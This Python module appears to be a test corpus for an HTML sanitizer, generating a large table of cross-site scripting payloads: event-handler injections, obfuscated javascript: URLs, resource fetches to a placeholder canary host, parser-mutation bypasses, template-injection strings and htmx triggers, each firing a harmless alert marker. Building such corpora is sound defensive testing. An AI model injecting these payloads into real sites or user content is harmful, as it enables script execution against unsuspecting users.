"""HTML that tries to run a script or to ask for something, in the shapes in which letters have tried it.

Every payload calls RUN, which leaves a mark and asks for a dialog, or fetches from CANARY. `payloads()` fills both in.
"""

# ruff: noqa: E501 - a table of attacks
import itertools

RUN = "window.__xss=1,alert(1)"

_EVENTS = (
    ("img", "src=x onerror"), ("img", "src onerror"), ("img", "src='CANARY/x' onload"), ("body", "onload"), ("svg", "onload"),
    ("iframe", "onload"), ("details", "open ontoggle"), ("video", "src=x onerror"), ("audio", "src=x onerror"),
    ("input", "autofocus onfocus"), ("select", "autofocus onfocus"), ("textarea", "autofocus onfocus"),
    ("button", "autofocus onfocus"), ("keygen", "autofocus onfocus"), ("marquee", "onstart"), ("marquee", "onscroll"),
    ("object", "data=x onerror"), ("embed", "src=x onload"), ("link", "rel=stylesheet href=x onerror"), ("style", "onload"),
    ("script", "src=x onerror"), ("a", "href=# autofocus tabindex=1 onfocus"), ("div", "contenteditable autofocus onfocus"),
    ("p", "style='animation-name:x' onanimationstart"), ("div", "style='transition:color 1s' ontransitionend"),
    ("table", "background=x onerror"), ("bgsound", "onpropertychange"), ("isindex", "type=image src=1 onerror"),
    ("form", "onsubmit"), ("frameset", "onload"), ("math", "onclick autofocus tabindex=1 onfocus"), ("meter", "tabindex=1 autofocus onfocus"),
    ("x", "tabindex=1 autofocus onfocus"), ("source", "srcset=x onerror"), ("picture", "onload"), ("track", "src=x onerror"),
    ("dialog", "open onclose"), ("xss", "oncontentvisibilityautostatechange style='display:block;content-visibility:auto'"),
)  # fmt: skip
_SPACINGS = (
    "{tag} {event}={run}",
    "{tag}/{event}={run}",
    "{tag}\n{event}\n=\n{run}",
    "{tag}\x0c{event}={run}",
    "{tag} a=b{event} {event}={run}",
)

_SCHEMES = (
    "javascript:{run}", "JaVaScRiPt:{run}", " javascript:{run}", "\x01javascript:{run}", "java\tscript:{run}", "java\nscript:{run}",
    "java&#13;script:{run}", "&#106;avascript:{run}", "&#x6A;avascript:{run}", "&#0000106&#0000097vascript:{run}",
    "javascript&colon;{run}", "javascript&#58;{run}", "java&Tab;script:{run}", "java&NewLine;script:{run}", "feed:javascript:{run}",
    "vbscript:msgbox(1)", "data:text/html,<script>{run}</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{run}'/>", "view-source:javascript:{run}",
    "javascript://x.example/%0a{run}", "blob:null/x", "//CANARY_HOST/x", "\u3000javascript:{run}", "jav&#x00;ascript:{run}",
)  # fmt: skip
_CARRIERS = (
    '<a href="{url}" autofocus>x</a>', '<iframe src="{url}"></iframe>', '<form action="{url}"><input type=submit autofocus></form>',
    '<img src="{url}">', '<object data="{url}"></object>', '<svg><a xlink:href="{url}"><text y=9>x</text></a></svg>',
)  # fmt: skip

_FETCHES = (
    "<img src=CANARY/i>", "<img srcset='CANARY/s 1x, CANARY/t 2x'>", "<img lowsrc=CANARY/l>", "<img dynsrc=CANARY/d>",
    "<picture><source srcset=CANARY/p><img src=x></picture>", "<body background=CANARY/b>", "<table background=CANARY/t><td background=CANARY/u>x",
    "<div style=\"background:url('CANARY/c')\">x</div>", "<div style='background-image:url(CANARY/c2)'>x</div>",
    "<div style='background:\\75rl(CANARY/c3)'>x</div>", "<p style='list-style:url(CANARY/c4);display:list-item'>x",
    "<p style='border-image:url(CANARY/c5) 1;border:1px solid'>x", "<p style='cursor:url(CANARY/c6),auto'>x",
    "<p style='content:url(CANARY/c7)'>x", "<p style=\"background:image-set('CANARY/c8' 1x)\">x", "<p style='mask:url(CANARY/c9#m)'>x",
    "<p style='filter:url(CANARY/c10#f)'>x", "<p style='--a:url(CANARY/c11);background:var(--a)'>x",
    "<style>@import 'CANARY/css';</style>", "<style>@import url(CANARY/css2);</style>",
    "<style>@font-face{font-family:x;src:url(CANARY/font)}p{font-family:x}</style><p>x",
    "<style>p{background:url(CANARY/css3)}</style><p>x", "<link rel=stylesheet href=CANARY/link>", "<link rel=preload as=image href=CANARY/pre>",
    "<link rel=dns-prefetch href=CANARY/dns><link rel=preconnect href=CANARY/con>", "<link rel=prefetch href=CANARY/pf>",
    "<link rel=icon href=CANARY/icon>", "<meta http-equiv=refresh content='0;url=CANARY/meta'>",
    "<meta http-equiv=refresh content='0;javascript:RUN'>", "<meta http-equiv=Content-Security-Policy content=\"default-src *\"><img src=CANARY/csp>",
    "<base href=CANARY/><img src=rel><a href=x>x</a>", "<iframe src=CANARY/f></iframe>", "<frameset><frame src=CANARY/fs></frameset>",
    "<object data=CANARY/o></object>", "<embed src=CANARY/e>", "<applet code=x codebase=CANARY/a></applet>",
    "<video poster=CANARY/poster src=CANARY/v autoplay></video>", "<audio src=CANARY/au autoplay></audio>",
    "<video><source src=CANARY/vs></video>", "<video><track default src=CANARY/tr></video>", "<input type=image src=CANARY/ii>",
    "<svg><image href=CANARY/si width=9 height=9 /></svg>", "<svg><image xlink:href=CANARY/sx width=9 height=9 /></svg>",
    "<svg><use href=CANARY/su#x /></svg>", "<svg><feImage href=CANARY/fe /></svg>", "<svg><style>@import 'CANARY/ss'</style></svg>",
    "<svg><script href=CANARY/js /></svg>", "<script src=CANARY/js2></script>", "<script type=module>import 'CANARY/js3'</script>",
    "<a href=CANARY/ping ping=CANARY/ping2>x</a>", "<img src='http:CANARY_HOST/odd'>", "<img src='\\\\\\\\CANARY_HOST/unc'>",
    "<xml src=CANARY/xml></xml>", "<html manifest=CANARY/manifest><p>x", "<bgsound src=CANARY/bg>", "<layer src=CANARY/layer></layer>",
    "<ilayer src=CANARY/il></ilayer>", "<portal src=CANARY/portal></portal>", "<img src=CANARY/lazy loading=lazy>", "<img src='CANARY/&#x6e;um'>",
    "<math><mglyph src=CANARY/mg></math>", "<menu><menuitem icon=CANARY/mi></menu>",
)  # fmt: skip

_MUTATIONS = (
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=RUN&gt;\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=RUN>",
    "<math><mtext><mglyph><svg><mtext><style><path id=\"</style><img onerror=RUN src>\">",
    "<svg></p><style><a id=\"</style><img src=1 onerror=RUN>\">", "<svg><p><style><img src=\"</style><img src=x onerror=RUN>\">",
    "<noscript><p title=\"</noscript><img src=x onerror=RUN>\">", "<noscript><style></noscript><img src=x onerror=RUN></style></noscript>",
    "<template><script>RUN</script></template>", "<template><s><template><s><img src=x onerror=RUN>x</s></template></s></template>",
    "<select><template><img src=x onerror=RUN></template></select>", "<select><iframe></select><img src=x onerror=RUN>",
    "<option><style></option></select><b><img src=x onerror=RUN></style></option>", "<table><td><select><svg><style><img src=x onerror=RUN>",
    "<scr<script>ipt>RUN</scr</script>ipt>", "<scr\x00ipt>RUN</scr\x00ipt>", "<script\x20type=text/javascript>RUN</script>", "<script/x>RUN</script>",
    "<SCRIPT>RUN</SCRIPT >", "<script>RUN", "<<script>RUN//<</script>", "<script <b>RUN</script>", "</script><script>RUN</script>",
    "<iframe srcdoc='<script>RUN</script>'></iframe>", "<iframe srcdoc='&lt;img src=x onerror=RUN&gt;'></iframe>", "<iframe><img src=x onerror=RUN></iframe>",
    "<xmp><p title=\"</xmp><img src=x onerror=RUN>\">", "<noembed><p title=\"</noembed><img src=x onerror=RUN>\">",
    "<noframes><p title=\"</noframes><img src=x onerror=RUN>\">", "<textarea><p title=\"</textarea><img src=x onerror=RUN>\">",
    "<title><p title=\"</title><img src=x onerror=RUN>\">", "<style><p title=\"</style><img src=x onerror=RUN>\">", "<plaintext><img src=x onerror=RUN>",
    "<!--><img src=x onerror=RUN>-->", "<!--!><img src=x onerror=RUN>-->", "<!-- --!><img src=x onerror=RUN>-->", "<!-<img src=x onerror=RUN>->",
    "<![CDATA[<img src=x onerror=RUN>]]>", "<svg><![CDATA[><img src=x onerror=RUN>]]></svg>", "<?xml version='1'><img src=x onerror=RUN>?>",
    "<?php echo '<img src=x onerror=RUN>' ?>", "<comment><img src=\"</comment><img src=x onerror=RUN>\">", "<!DOCTYPE x [<!ENTITY y '<img src=x onerror=RUN>'>]>&y;",
    "<img alt=\"<x\" title=\"/><img src=x onerror=RUN>\">", "<img \"\"\"><script>RUN</script>\">", "<img src=\"x` `<script>RUN</script>\"` `>",
    "<img src='x' title='`' onerror=`RUN`>", "<a title='\"><img src=x onerror=RUN>'>x</a>", "<a title=\"'><img src=x onerror=RUN>\">x</a>",
    "<a href='\"onmouseover=RUN autofocus onfocus=RUN x=\"'>x</a>", "<p title='&quot;&gt;&lt;img src=x onerror=RUN&gt;'>x</p>",
    "<p>&lt;img src=x onerror=RUN&gt;</p>", "<p>&amp;lt;script&amp;gt;RUN&amp;lt;/script&amp;gt;</p>", "<div id=\"x\">x</div><a name=x>", "<img name=body><img name=cookie>",
    "<form id=x><input name=attributes><input name=parentNode></form>", "<a id=__xss href=x>x</a><a id=__xss name=y>x</a>",
    "<svg><script>RUN</script></svg>", "<svg><script>&#97;lert(1)</script></svg>", "<svg><animate onbegin=RUN attributeName=x dur=1s></svg>",
    "<svg><set attributeName=onload to=RUN /></svg>", "<svg><a><animate attributeName=href values=javascript:RUN /><text x=9 y=9>x</text></a></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='RUN' /></svg>#x\" /></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>RUN</script>'></foreignObject></svg>", "<svg><desc><svg onload=RUN></desc></svg>", "<svg><title><style><img src=x onerror=RUN></style></title></svg>",
    "<math><maction actiontype=statusline xlink:href=javascript:RUN>x</maction></math>", "<math href=javascript:RUN>x</math>", "<math><annotation-xml encoding=text/html><img src=x onerror=RUN></annotation-xml></math>",
    "<math><mi><mi/><style><!--</style><img title='--><img src=x onerror=RUN>'>", "<math><a href='javascript:RUN'><mtext>x</mtext></a></math>",
    "<div style='width:expression(RUN)'>x</div>", "<div style='xss:expr/**/ession(RUN)'>x</div>", "<div style='behavior:url(CANARY/htc)'>x</div>", "<div style='-moz-binding:url(CANARY/xbl)'>x</div>",
    "<style>*{x:expression(RUN)}</style>", "<div style=\"x:'</style><img src=x onerror=RUN>'\">x</div>", "<div style='color:red\"><img src=x onerror=RUN>'>x</div>",
    "<div style='position:fixed;inset:0;background:#fff'>overlay<a href=javascript:RUN>log in</a></div>",
    "<table><tr><td></tr><script>RUN</script></td></table>", "<table><form><input autofocus onfocus=RUN></form></table>", "<b><p><b></p><img src=x onerror=RUN></b>",
    "<p><svg><font color=x><img src=x onerror=RUN></font></svg>", "<svg><b><img src=x onerror=RUN></b></svg>", "<a><svg><a><img src=x onerror=RUN></a></svg></a>",
    "<ruby><rp><img src=x onerror=RUN></rp></ruby>", "<details open><summary><img src=x onerror=RUN></summary></details>", "<dialog open><form method=dialog><button autofocus onfocus=RUN></dialog>",
    "\u00bcscript\u00beRUN\u00bc/script\u00be", "+ADw-script+AD4-RUN+ADw-/script+AD4-", "<\u017fcript>RUN</\u017fcript>", "%3Cscript%3ERUN%3C/script%3E", "\\u003cscript\\u003eRUN\\u003c/script\\u003e",
    "{{constructor.constructor('RUN')()}}", "${RUN}", "#{RUN}", "<%= RUN %>", "{% raw %}<img src=x onerror=RUN>{% endraw %}", "<hx-partial hx-target='#thread'><img src=x onerror=RUN></hx-partial>",
    "<div hx-get='/desk/system' hx-trigger='load' hx-on:load='RUN'>x</div>", "<div hx-on::after-request='RUN' hx-post='/desk/logout' hx-trigger='load'>x</div>", "<div data-hx-get='/desk' data-hx-trigger=load>x</div>",
    "<x-element><img src=x onerror=RUN></x-element>", "<slot onslotchange=RUN><img src=x onerror=RUN></slot>", "<div><template shadowrootmode=open><img src=x onerror=RUN><slot></slot></template></div>",
    "<button popovertarget=p>x</button><div popover id=p onbeforetoggle=RUN>x</div>", "<input type=hidden oncontentvisibilityautostatechange=RUN style=content-visibility:auto>", "<img src=x:x onerror=RUN//", "<img src=x onerror=RUN <b>",
)  # fmt: skip


def payloads(canary: str) -> list[str]:
    """All of them, for a canary server such as http://127.0.0.1:8123."""
    made = [
        f"<{_SPACINGS[place % len(_SPACINGS)].format(tag=tag, event=event, run=RUN)}>x</{tag}>"
        for place, (tag, event) in enumerate(_EVENTS)
    ]
    made += [
        carrier.format(url=scheme.replace("{run}", RUN))
        for carrier, scheme in itertools.product(_CARRIERS, _SCHEMES)
    ]
    host = canary.partition("//")[2]
    return [
        one.replace("RUN", RUN).replace("CANARY_HOST", host).replace("CANARY", canary)
        for one in (*made, *_FETCHES, *_MUTATIONS)
    ]
